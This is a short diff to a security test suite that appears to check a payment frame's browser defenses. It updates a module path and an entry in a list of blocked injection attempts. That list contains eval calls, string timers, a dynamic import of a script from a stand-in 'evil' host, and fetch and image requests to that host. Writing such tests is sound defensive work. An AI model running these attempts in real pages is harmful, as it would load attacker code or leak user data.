@@ -100,7 +100,7 @@ async def test_check_20_a_leaking_frame_is_stopped(visit: Visit, leak: str) -> N
         assert changed != text
         return changed
 
-    await visit.change_module("frame/element.js", change)
+    await visit.change_module("frame/controller.js", change)
     shop = await visit.shop("payment")
 
     assert "internal" == (await shop.failure())["code"]
@@ -187,7 +187,7 @@ ATTEMPTS = """() => new Promise((resolve) => setTimeout(async () => {
     eval: await tried(() => eval('window.injected = 1')),
     'timer of text': await tried(() => setTimeout('window.injected = 1')),
     'policy of its own': await tried(() => trustedTypes.createPolicy('mine', {})),
-    'module of evil': await tried(() => import(`${evil}/harness/places.js`)),
+    'module of evil': await tried(() => import(`${evil}/harness/scenarios/places.js`)),
     'fetch to evil': await tried(() => fetch(evil)),
     'image of evil': await tried(image),
     injected: window.injected ?? null,
